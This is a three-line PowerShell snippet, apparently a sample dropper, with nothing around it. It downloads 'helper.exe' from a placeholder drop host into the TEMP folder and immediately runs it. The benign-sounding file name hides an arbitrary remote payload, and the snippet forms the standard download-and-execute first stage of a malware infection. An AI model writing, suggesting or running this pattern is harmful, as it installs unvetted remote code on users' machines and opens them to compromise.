$out = "$env:TEMP\helper.exe"
Invoke-WebRequest -Uri "https://f3a9.drop.invalid/helper.exe" -OutFile $out
Start-Process -FilePath $out -WindowStyle Normal
